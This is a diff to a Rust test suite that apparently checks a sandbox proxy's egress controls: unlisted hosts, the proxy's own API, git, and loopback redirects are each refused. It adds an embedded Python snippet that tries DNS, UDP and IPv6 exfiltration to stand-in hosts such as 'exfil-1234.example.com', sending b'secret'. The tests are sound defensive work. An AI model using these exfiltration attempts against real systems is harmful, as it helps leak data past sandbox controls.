@@ -128,12 +128,39 @@ async fn a_listed_name_is_reached_and_recorded_and_nothing_else_is() {
         (Some(1), Some(0))
     );
     assert!(lines[0]["bytes_in"].as_u64().unwrap() > 0, "{ok}");
+    // The run log keeps it.
+    let id = ok["run_id"].as_str().unwrap();
+    let kept: Value = server
+        .person()
+        .get(format!("{}/runs/{id}", server.base()))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(kept["result"]["egress"], ok["egress"], "{kept}");
 
     // A name off the list: refused, in words a model can act on.
     let off = run(&server, &fetch(&format!("http://other.test:{}/", up.port()))).await;
     let text = output(&off);
     assert!(text.starts_with("403 "), "{off}");
     assert!(text.contains("other.test") && text.contains("network"), "{off}");
+
+    // skilld's own API, asked of the proxy by its address: refused, so a
+    // tool cannot file held calls or steer its session through it.
+    let api = run(&server, &fetch(&format!("http://{}/healthz", server.addr))).await;
+    assert!(output(&api).starts_with("403 "), "{api}");
+
+    // git, a client of its own, follows the same variables to the same
+    // refusal.
+    let git = format!(
+        "import subprocess\nr = subprocess.run(['git', 'ls-remote', 'http://other.test:{}/repo.git'], \
+         capture_output=True, text=True)\nprint(r.returncode, r.stderr)\n",
+        up.port()
+    );
+    let git = run(&server, &git).await;
+    assert!(output(&git).contains("403"), "{git}");
 
     // A listed name that leads to the host's loopback: refused.
     let evil = run(&server, &fetch(&format!("http://evil.test:{}/", up.port()))).await;
@@ -180,7 +207,39 @@ async fn a_run_cannot_go_around_the_proxy() {
     );
     let bare = run(&server, &code).await;
     assert!(output(&bare).starts_with("error"), "{bare}");
+
+    // Neither DNS, nor UDP, nor IPv6 is a way out. (No packet can leave:
+    // the namespace has no interface but loopback, and 192.0.2.0/24 and
+    // 2001:db8::/32 are documentation ranges.)
+    let others = run(&server, OTHER_WAYS).await;
+    for way in ["dns", "udp", "ipv6 loopback", "ipv6"] {
+        let line = output(&others)
+            .lines()
+            .find(|l| l.starts_with(&format!("{way}:")))
+            .unwrap_or_else(|| panic!("no line for {way}: {others}"));
+        assert!(!line.ends_with(": ok"), "{way} got out: {others}");
+    }
 }
+
+/// Python trying the ways out that are not TCP to an IPv4 address.
+const OTHER_WAYS: &str = r#"
+import socket
+def attempt(name, f):
+    try:
+        f()
+        print(name + ": ok")
+    except OSError as e:
+        print(name + ": " + type(e).__name__ + " " + str(e))
+attempt("dns", lambda: socket.getaddrinfo("exfil-1234.example.com", 80))
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"secret", ("192.0.2.1", 53))
+    s.settimeout(2)
+    s.recvfrom(10)
+attempt("udp", udp)
+attempt("ipv6 loopback", lambda: socket.create_connection(("::1", 5432), timeout=3))
+attempt("ipv6", lambda: socket.create_connection(("2001:db8::1", 443), timeout=3))
+"#;
 
 #[tokio::test]
 async fn a_bad_pattern_is_named_where_the_skill_is_listed() {
